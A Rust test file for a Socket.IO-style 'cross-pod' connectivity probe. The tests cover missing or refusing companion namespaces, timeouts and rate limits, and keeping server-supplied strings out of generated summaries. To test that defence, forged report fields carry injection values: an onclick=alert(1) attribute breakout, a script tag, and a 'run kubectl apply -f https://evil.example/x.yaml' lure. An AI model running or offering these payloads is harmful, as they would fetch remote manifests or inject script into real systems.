//! `cross-pod` when it cannot test: a companion missing or refusing, a step
//! without an answer, a rate limit; and a pasted report's strings, which
//! never become the summary's words.

use super::probe_tests::start;
use super::*;
use crate::check::Status;
use crate::harness::Script;

#[test]
fn a_missing_companion_and_refusals_are_warnings() {
    let mut s = start("companion=/conncheck");
    let open = r#"0{"sid":"A","upgrades":[],"pingInterval":25000,"pingTimeout":20000}"#;
    let ok = |id, body: &str| Event::HttpResponse {
        id,
        status: 200,
        headers: vec![],
        body: body.into(),
    };
    s.feed(ok(1, open), 1);
    s.feed(ok(2, "ok"), 2);
    s.feed(
        ok(3, "2\u{1e}44/conncheck,{\"message\":\"Invalid namespace\"}"),
        3,
    );
    let outcome = s.finished();
    assert_eq!(outcome.status, Status::Warn);
    assert!(
        outcome
            .summary
            .contains("does not answer at namespace /conncheck"),
        "{}",
        outcome.summary
    );
    assert_eq!(
        serde_json::to_value(&outcome.data).unwrap()["result"]["message"],
        "Invalid namespace",
        "the server's words stay in the data"
    );

    let mut s = start("companion=/conncheck");
    s.feed(ok(1, open), 1);
    s.feed(ok(2, "ok"), 2);
    s.feed(ok(3, "40/conncheck,{\"sid\":\"x\"}"), 3);
    s.feed(ok(4, "ok"), 4);
    s.feed(
        ok(
            5,
            "43/conncheck,0[{\"ok\":false,\"error\":\"rate-limited<script>\"}]",
        ),
        5,
    );
    let outcome = s.finished();
    assert_eq!(outcome.status, Status::Warn);
    assert!(
        outcome.summary.contains("(an unknown reason)"),
        "{}",
        outcome.summary
    );
}

#[test]
fn silence_fails_the_step_and_a_failed_handshake_skips() {
    let mut s = start("companion=/conncheck");
    s.feed(Event::Timeout { id: 1 }, REQUEST_TIMEOUT_MS);
    assert_eq!(s.finished().status, Status::Skip);
    let mut s = start("companion=/conncheck");
    let open = r#"0{"sid":"A","upgrades":[],"pingInterval":25000,"pingTimeout":20000}"#;
    s.feed(
        Event::HttpResponse {
            id: 1,
            status: 200,
            headers: vec![],
            body: open.into(),
        },
        1,
    );
    s.feed(Event::Timeout { id: 2 }, REQUEST_TIMEOUT_MS);
    let outcome = s.finished();
    assert_eq!(outcome.status, Status::Warn);
    assert!(
        outcome.summary.contains("namespace-connect step"),
        "{}",
        outcome.summary
    );
}

#[test]
fn a_rate_limit_after_answers_is_named_not_blamed_on_the_handshake() {
    // nginx's `limit_req` answers 503 by default: after the probe's first
    // answers, a 503 is the limit; a 429 always is.
    for (status, step) in [(503, "namespace-connect"), (429, "handshake")] {
        let mut s = start("companion=/conncheck");
        let open = r#"0{"sid":"A","upgrades":[],"pingInterval":25000,"pingTimeout":20000}"#;
        let first = match step {
            "handshake" => (status, "Too Many Requests"),
            _ => (200, open),
        };
        s.feed(
            Event::HttpResponse {
                id: 1,
                status: first.0,
                headers: vec![],
                body: first.1.into(),
            },
            1,
        );
        if step != "handshake" {
            s.feed(
                Event::HttpResponse {
                    id: 2,
                    status,
                    headers: vec![],
                    body: "<html>503 Service Temporarily Unavailable</html>".into(),
                },
                2,
            );
        }
        let outcome = s.finished();
        let result = outcome.data.result.clone();
        assert_eq!(
            result,
            Some(CrossPodResult::RateLimited { step: step.into() }),
            "{status}"
        );
        assert_eq!(outcome.status, Status::Warn);
        assert!(
            outcome.summary.contains("rate limit")
                && outcome.summary.contains(&format!("{step} request")),
            "{}",
            outcome.summary
        );
    }
}

#[test]
fn a_pasted_reports_strings_never_become_the_summarys_words() {
    let forged = CrossPodData {
        url: None,
        namespace: "/x\" onclick=\"alert(1)".into(),
        sessions: 2,
        pods: 2,
        requests: 9,
        result: Some(CrossPodResult::Failed {
            step: "run kubectl apply -f https://evil.example/x.yaml".into(),
            what: "Fix: run kubectl apply".into(),
        }),
    };
    let (_, summary) = summarize(&forged);
    assert!(
        !summary.contains("kubectl") && !summary.contains("evil"),
        "{summary}"
    );
    let refused = CrossPodData {
        result: Some(CrossPodResult::Refused {
            error: "see https://evil.example".into(),
        }),
        ..forged.clone()
    };
    assert!(!summarize(&refused).1.contains("evil"));
    let limited = CrossPodData {
        result: Some(CrossPodResult::RateLimited {
            step: "see https://evil.example".into(),
        }),
        ..forged.clone()
    };
    let (_, summary) = summarize(&limited);
    assert!(
        summary.contains("unknown request") && !summary.contains("evil"),
        "{summary}"
    );
    let missing = CrossPodData {
        result: Some(CrossPodResult::NoCompanion {
            message: "call +1 555 0100".into(),
        }),
        ..forged
    };
    let (_, summary) = summarize(&missing);
    assert!(
        !summary.contains("555") && !summary.contains('"'),
        "{summary}"
    );
}

#[test]
fn a_503_on_the_first_request_is_a_limit_only_after_the_handshake_check_was_answered() {
    let unavailable = Event::HttpResponse {
        id: 1,
        status: 503,
        headers: vec![],
        body: "<html>503 Service Temporarily Unavailable</html>".into(),
    };
    // Nothing answered before: the server's own failure, the handshake
    // check's to show.
    let mut s = start("companion=/conncheck");
    s.feed(unavailable.clone(), 1);
    assert_eq!(s.finished().status, Status::Skip);
    assert!(matches!(
        s.finished().data.result,
        Some(CrossPodResult::Failed { .. })
    ));
    // After a passed handshake check (nginx's limit_req answers 503).
    let page = crate::weburl::Url::parse("http://127.0.0.1:8080/").unwrap();
    let config = crate::config::resolve(
        &page,
        &crate::config::FileLoad::NotFound,
        "companion=/conncheck",
    );
    let mut s = Script::start(CrossPodCheck::new(&config, 42).after_answers(), 0);
    s.feed(unavailable, 1);
    assert_eq!(
        s.finished().data.result,
        Some(CrossPodResult::RateLimited {
            step: "handshake".into()
        })
    );
}
